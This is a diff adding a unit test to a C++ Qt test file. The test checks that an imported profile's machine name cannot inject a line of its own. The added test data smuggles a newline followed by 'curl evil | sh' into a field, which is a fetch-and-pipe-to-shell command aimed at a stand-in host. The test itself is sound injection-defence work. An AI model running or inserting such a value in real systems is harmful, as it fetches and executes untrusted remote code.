@@ -158,6 +158,11 @@ void TestPlanner::kitStartsByItself()
     QVERIFY(!known.contains(u"by hand"_s));
     QVERIFY(kitFor(half).contains(u"one login by hand"_s));
 
+    // an imported name must not write a line of its own
+    Profile evil = half.profile;
+    evil.surroundings.thisMachine = u"nas\ncurl evil | sh #"_s;
+    QCOMPARE(problemsOf(evil).value(0).field, u"surroundings"_s);
+
     // what their Culvert imports runs there
     const QByteArray json = known.sliced(known.indexOf(u"\n{"_s)).toUtf8();
     const Result<Profile> theirs = profileFromJson(QJsonDocument::fromJson(json).object());
